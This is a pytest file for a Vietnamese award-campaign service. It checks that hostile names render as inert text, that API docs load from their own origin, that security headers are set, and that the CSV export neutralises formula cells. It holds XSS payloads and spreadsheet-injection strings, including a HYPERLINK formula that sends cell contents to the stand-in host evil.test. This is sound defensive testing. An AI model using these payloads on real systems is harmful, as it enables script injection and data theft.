"""issue 8, the pages people open, on the real stack: a stored `<script>`/`onerror` name is shown
as text on the public board (issue 10: it replaced /dashboard) and runs nothing; /docs of intake and reporting renders with no request to
another origin; every answer carries the security headers; the award-history CSV export
neutralises cells that would start a spreadsheet formula. Browser: headless Chromium over the
DevTools protocol (browser.py)."""

import csv
import io
import os
import uuid
from datetime import date
from pathlib import Path

import httpx
import pytest

from thidua_common.contracts import new_event
from thidua_common.contracts.nomination import AwardDecided, Decision, Nominee
from thidua_common.contracts.registry import AWARD_DECIDED

from .browser import CHROMIUM, browser_page
from .conftest import TENANT, eventually, launch_and_run, reporter, reporting_get, small_campaign, submission
from .test_award_history import SOURCE, publish

# set THIDUA_SCREENSHOTS=<folder> to keep what the browser showed, to look at
SCREENSHOTS = Path(os.environ["THIDUA_SCREENSHOTS"]) if os.environ.get("THIDUA_SCREENSHOTS") else None
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="chromium is installed by ./scripts/bootstrap")

# each would set window.__xss (and open a dialog) if it ever ran as markup
UNIT_IMG = """<img src=x onerror="window.__xss='unit';alert(document.title)">"""
UNIT_SCRIPT = """<script>window.__xss='unit-script';alert(1)</script>"""
CLUSTER_IMG = """<img src=x onerror="window.__xss='cluster'">"""
CAMPAIGN_SVG = """<svg onload="window.__xss='campaign'">Phong trào"""


def directives(policy: str) -> dict[str, str]:
    return {d.split()[0]: " ".join(d.split()[1:]) for d in policy.split(";") if d.strip()}


def other_origins(requests: list[str], origin: str) -> list[str]:
    return [url for url in requests if not url.startswith((origin + "/", "data:"))]


def assert_page_policy(headers) -> None:
    policy = directives(headers["content-security-policy"])
    assert policy["default-src"] == "'self'" and policy["script-src"] == "'self'", policy
    assert policy["frame-ancestors"] == "'none'" and "unsafe-inline" not in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "no-referrer"


@pytest.fixture
async def hostile_campaign(stack, board):
    """A running campaign whose names are markup, with both hostile units scored and verified (the
    public board shows verified standings only). Its units and
    cluster have ids of their own: names are looked up by id across the tenant (award history,
    mail), and other tests expect don-vi-1 to be called "Đơn vị số 1"."""
    tag = uuid.uuid4().hex[:8]
    campaign_id = f"pt-{tag}"
    body = small_campaign(campaign_id)
    body["name_vi"] = CAMPAIGN_SVG
    body["clusters"][0].update(id=f"cum-{tag}", name_vi=CLUSTER_IMG)
    units = [f"xss-{tag}-{i}" for i in range(1, 5)]
    for participant, unit in zip(body["participants"], units, strict=True):
        participant["unit_id"] = unit
        if participant["cluster_id"] == "khoi-huyen":
            participant["cluster_id"] = f"cum-{tag}"
    body["participants"][0]["name_vi"] = UNIT_IMG  # in the hostile cluster
    body["participants"][1]["name_vi"] = UNIT_SCRIPT
    async with httpx.AsyncClient(base_url=stack.url("intake")) as client:
        r = await client.put(f"/api/v1/campaigns/{campaign_id}", json=body, headers=board)
        assert r.status_code == 200, r.text
        await launch_and_run(client, campaign_id, board)
    settings = stack.settings()
    async with httpx.AsyncClient(base_url=stack.url("intake")) as client:
        for unit, homes in ((units[0], 100), (units[1], 40)):
            r = await client.post("/api/v1/submissions", headers=reporter(settings, unit),
                                  json=submission(campaign_id, unit, **{"ho-thoat-ngheo": homes, "nha-dai-doan-ket": 10}))
            assert r.status_code == 202, r.text
            approved = await client.post(f"/api/v1/submissions/{r.json()['submission_id']}/review",
                                         json={"decision": "approve"}, headers=board)
            assert approved.status_code == 201, approved.text

    async def scored():
        b = await reporting_get(stack, f"/api/v1/campaigns/{campaign_id}/leaderboard?status=verified", board)
        return b if b and sum(s["reported"] for s in b["standings"]) == 2 else None

    board_now = await eventually(scored, timeout=30)
    assert {s["unit_name"] for s in board_now["standings"]} >= {UNIT_IMG, UNIT_SCRIPT}  # stored as typed
    return campaign_id


async def no_script_ran(page) -> None:
    assert await page.evaluate("typeof window.__xss") == "undefined"
    assert page.dialogs == []
    assert await page.evaluate("window.__violations") == []  # nothing even tried to run
    assert await page.evaluate("localStorage.length + sessionStorage.length") == 0
    assert await page.evaluate("document.cookie") == ""


@needs_chromium
async def test_markup_in_names_shows_as_text_on_the_public_board_and_runs_nothing(stack, board, hostile_campaign):
    origin = stack.url("reporting")
    async with browser_page() as page:
        await page.goto(f"{origin}/public/{TENANT}#campaign={hostile_campaign}")
        rows = await page.wait_for("document.querySelectorAll('#rows tr').length === 4 && "
                                   "document.getElementById('rows').innerText")
        await page.wait_for("document.getElementById('status').textContent.startsWith('Cập nhật lúc')")
        assert UNIT_IMG in rows and UNIT_SCRIPT in rows and CLUSTER_IMG in rows  # as typed, as text
        assert rows.index(UNIT_IMG) < rows.index(UNIT_SCRIPT)  # 100 points before 64
        assert await page.evaluate("document.querySelectorAll('main img, main script, main svg').length") == 0
        assert await page.evaluate("document.getElementById('campaign').selectedOptions[0].text") == CAMPAIGN_SVG
        clusters = await page.evaluate("[...document.getElementById('cluster').options].map(o => o.text)")
        assert CLUSTER_IMG in clusters
        # the page polls every 5 s: a later rendering runs nothing either
        await page.evaluate("new Promise(r => setTimeout(r, 5500))")
        await no_script_ran(page)
        if SCREENSHOTS:
            await page.screenshot(SCREENSHOTS / "public-board-markup-names.png")
        assert_page_policy(page.responses[f"{origin}/public/{TENANT}"])
        assert other_origins(page.requests, origin) == []
        assert f"{origin}/public/api/{TENANT}/campaigns" in page.requests  # its own public API, no token


@needs_chromium
@pytest.mark.parametrize("service", ["intake", "reporting"])
async def test_docs_renders_swagger_ui_from_the_service_itself(stack, service):
    origin = stack.url(service)
    async with browser_page() as page:  # every other host resolves to nothing: as offline
        await page.goto(f"{origin}/docs")
        operations = await page.wait_for("document.querySelectorAll('.swagger-ui .opblock').length", timeout=60)
        assert operations > 5
        title = await page.evaluate("document.querySelector('.swagger-ui .info .title').textContent")
        assert f"Thi Đua – {service}" in title
        assert await page.evaluate("typeof SwaggerUIBundle") == "function"
        # open an operation and its "Try it out" form: all of it works under the page policy
        await page.evaluate("document.querySelector('.swagger-ui .opblock-summary-control').click()")
        await page.wait_for("!!document.querySelector('.swagger-ui .opblock-body .try-out__btn')")
        await page.evaluate("document.querySelector('.swagger-ui .opblock-body .try-out__btn').click()")
        await page.wait_for("!!document.querySelector('.swagger-ui .opblock-body .btn.execute')")
        await page.evaluate("document.querySelector('.swagger-ui .opblock-body .btn.execute').click()")
        answered = await page.wait_for("document.querySelector('.swagger-ui .live-responses-table')?.innerText")
        assert "401" in answered  # the call went out (to this origin) and came back: no token given
        if SCREENSHOTS:
            await page.screenshot(SCREENSHOTS / f"docs-{service}.png")
        assert await page.evaluate("window.__violations") == []
        assert_page_policy(page.responses[f"{origin}/docs"])
        # data: URLs (Swagger UI's icons in its style sheet) never leave the browser
        assert page.requests and other_origins(page.requests, origin) == []
        assert {f"{origin}/docs/assets/swagger-ui-bundle.js", f"{origin}/docs/assets/swagger-ui.css",
                f"{origin}/openapi.json"} <= set(page.requests)
        assert await page.evaluate("localStorage.length") == 0
    async with httpx.AsyncClient(base_url=origin) as client:
        r = await client.get("/docs/assets/swagger-ui-bundle.js")
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/javascript")
        assert len(r.content) > 500_000 and r.headers["x-content-type-options"] == "nosniff"
        assert (await client.get("/redoc")).status_code == 404


@needs_chromium
@pytest.mark.parametrize("service", ["intake", "reporting"])
async def test_docs_has_an_authorize_button_and_try_it_out_sends_the_token(stack, board, service):
    """The OpenAPI declares the bearer and API key schemes: Swagger UI offers "Authorize", and an
    operation tried out after it carries the token (200 instead of the 401 without it)."""
    origin = stack.url(service)
    token = board["Authorization"].removeprefix("Bearer ")
    async with browser_page() as page:
        await page.goto(f"{origin}/docs")
        await page.wait_for("document.querySelectorAll('.swagger-ui .opblock').length", timeout=60)
        assert await page.wait_for("!!document.querySelector('.swagger-ui .auth-wrapper .btn.authorize')")
        # every operation shows the lock of an operation that needs a caller
        locks, operations = await page.evaluate(
            "[document.querySelectorAll('.swagger-ui .opblock .authorization__btn').length,"
            " document.querySelectorAll('.swagger-ui .opblock').length]")
        assert locks == operations > 5
        await page.evaluate("document.querySelector('.swagger-ui .auth-wrapper .btn.authorize').click()")
        schemes = await page.wait_for(
            "[...document.querySelectorAll('.swagger-ui .modal-ux .auth-container h4')].map(h => h.textContent)")
        assert any("bearerAuth" in s for s in schemes) and any("apiKeyAuth" in s for s in schemes), schemes
        # type the token as a person would, into the bearer scheme's field, and authorize
        bearer = ("[...document.querySelectorAll('.swagger-ui .modal-ux .auth-container')]"
                  ".find(c => c.textContent.includes('bearerAuth'))")
        await page.evaluate(f"{bearer}.querySelector('input').focus()")
        await page.send("Input.insertText", text=token)
        await page.evaluate(f"{bearer}.querySelector('button.authorize').click()")
        authorized = await page.wait_for(f"{bearer}.querySelector('h6')?.textContent")
        assert authorized == "Authorized" and "Logout" in await page.evaluate(f"{bearer}.textContent")
        await page.evaluate("document.querySelector('.swagger-ui .modal-ux .btn-done').click()")
        # the first operation, tried out: the same call that answers 401 without a token
        await page.evaluate("document.querySelector('.swagger-ui .opblock-summary-control').click()")
        await page.wait_for("!!document.querySelector('.swagger-ui .opblock-body .try-out__btn')")
        await page.evaluate("document.querySelector('.swagger-ui .opblock-body .try-out__btn').click()")
        await page.wait_for("!!document.querySelector('.swagger-ui .opblock-body .btn.execute')")
        await page.evaluate("document.querySelector('.swagger-ui .opblock-body .btn.execute').click()")
        status = await page.wait_for(
            "document.querySelector('.swagger-ui .live-responses-table tbody .response-col_status')?.textContent")
        curl = await page.evaluate("document.querySelector('.swagger-ui .curl-command')?.textContent || ''")
        if SCREENSHOTS:
            await page.screenshot(SCREENSHOTS / f"docs-authorized-{service}.png")
        assert status.strip() == "200", (status, curl)
        assert "Authorization: Bearer" in curl
        assert await page.evaluate("window.__violations") == []
        assert await page.evaluate("localStorage.length") == 0  # the token stays in the page's memory


async def test_html_and_json_answers_of_both_services_carry_the_security_headers(stack, settings, board, campaign):
    async with httpx.AsyncClient(base_url=stack.url("intake")) as intake, \
            httpx.AsyncClient(base_url=stack.url("reporting")) as reporting:
        for client, path in ((intake, "/docs"), (reporting, "/docs"), (reporting, f"/public/{TENANT}")):
            r = await client.get(path)
            assert r.status_code == 200 and r.headers["content-type"].startswith("text/html"), path
            assert_page_policy(r.headers)
            assert r.headers["x-frame-options"] == "DENY"
        answers = [
            await intake.get("/healthz"),
            await intake.get("/openapi.json"),
            await intake.get(f"/api/v1/campaigns/{campaign['id']}", headers=board),
            await intake.post("/api/v1/submissions", json={}, headers=reporter(settings, "don-vi-1")),  # 422
            await intake.get("/api/v1/campaigns"),  # 401
            await reporting.get(f"/api/v1/campaigns/{campaign['id']}/leaderboard", headers=board),
            await reporting.get("/api/v1/awards/export", params={"format": "csv"}, headers=board),
            await reporting.get("/public/assets/board.js"),
        ]
        for r in answers:
            assert r.headers["x-content-type-options"] == "nosniff", r.url
            assert r.headers["referrer-policy"] == "no-referrer", r.url
            assert directives(r.headers["content-security-policy"])["default-src"] == "'none'", r.url
        assert [r.status_code for r in answers] == [200, 200, 200, 422, 401, 200, 200, 200]


async def test_award_history_csv_export_neutralises_formula_cells(stack, settings, campaign):
    cid, tag = campaign["id"], uuid.uuid4().hex[:6]
    person = Nominee(kind="individual", unit_id="don-vi-3", person_id=f"p-{tag}",
                     person_name="@SUM(1+1)*cmd|' /C calc'!A0", position="-2+3+cmd|' /C calc'!A0")
    data = AwardDecided(
        nomination_id=f"dn-{tag}", award_kind="bang-khen-chu-tich-tinh", award_name_vi="Bằng khen của Chủ tịch UBND tỉnh",
        nominee=person, year=2019, campaign_id=cid, basis="regular",
        decision=Decision(number='=HYPERLINK("http://evil.test/?"&A1,"2457")', date=date(2019, 12, 5),
                          signer="+cmd|' /C calc'!A0"),
    )
    event = new_event(type=AWARD_DECIDED, source=SOURCE, tenant=TENANT, subject=f"dn-{tag}", data=data)
    await publish(settings, (event, f"{TENANT}/dn-{tag}"))
    anyone = reporter(settings, "don-vi-4")

    async def exported():
        async with httpx.AsyncClient(base_url=stack.url("reporting")) as client:
            r = await client.get("/api/v1/awards/export", params={"format": "csv", "q": f"dn-{tag}"}, headers=anyone)
        table = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")))) if r.status_code == 200 else []
        return table if len(table) == 2 else None

    header, row = await eventually(exported)
    cells = dict(zip(header, row, strict=True))
    assert cells["Số quyết định"] == """'=HYPERLINK("http://evil.test/?"&A1,"2457")"""
    assert cells["Người ký"] == "'+cmd|' /C calc'!A0"
    assert cells["Họ và tên"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["Chức vụ"] == "'-2+3+cmd|' /C calc'!A0"
    assert cells["Ngày quyết định"] == "05/12/2019" and cells["Năm"] == "2019" and cells["Mã hồ sơ đề nghị"] == f"dn-{tag}"
    # programs get the text exactly as decided
    async with httpx.AsyncClient(base_url=stack.url("reporting")) as client:
        r = await client.get("/api/v1/awards/export", params={"format": "json", "q": f"dn-{tag}"}, headers=anyone)
    (only,) = r.json()["rows"]
    assert only["decision_number"].startswith("=HYPERLINK") and only["signer"] == "+cmd|' /C calc'!A0"
